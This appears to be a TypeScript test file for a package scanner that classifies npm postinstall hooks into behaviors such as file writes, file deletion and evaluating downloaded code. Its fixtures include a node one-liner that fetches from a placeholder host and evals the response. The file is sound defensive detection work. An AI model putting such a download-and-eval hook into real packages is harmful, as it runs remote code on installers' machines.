import assert from 'node:assert/strict';
import { openArtifact } from '../../lib/artifact/open.js';
import { buildSequence } from '../../lib/behavior/sequence.js';

describe('code that stands in a hook', () => {
  const hooks: readonly [string, readonly string[]][] = [
    [`node -e "require('fs').writeFileSync('x', '')"`, ['run-interpreter', 'R3', 'write-file']],
    [
      `node -e "require('https').get('https://x.example.invalid/p', (r) => r.on('data', (c) => eval(c)))"`,
      ['run-interpreter', 'D1', 'D3', 'http-request', 'evaluate-downloaded'],
    ],
    [`python3 -c "import os; os.unlink('x')"`, ['run-interpreter', 'R1', 'delete-file']],
  ];
  for (const [postinstall, expected] of hooks) {
    it(postinstall, async () => {
      const manifest = JSON.stringify({ name: 'a', version: '1.0.0', scripts: { postinstall } });
      const files = [{ path: 'package.json', bytes: Buffer.from(manifest), executable: false }];
      const artifact = await openArtifact({
        ecosystem: 'npm',
        filename: 'a',
        bytes: new Uint8Array(),
        files,
      });
      const { units } = await buildSequence(artifact, { strict: true });
      const hook = units.find(({ kind }) => kind === 'lifecycle');
      assert.deepEqual(
        hook?.behaviors.map(({ code }) => code),
        expected,
      );
    });
  }
});
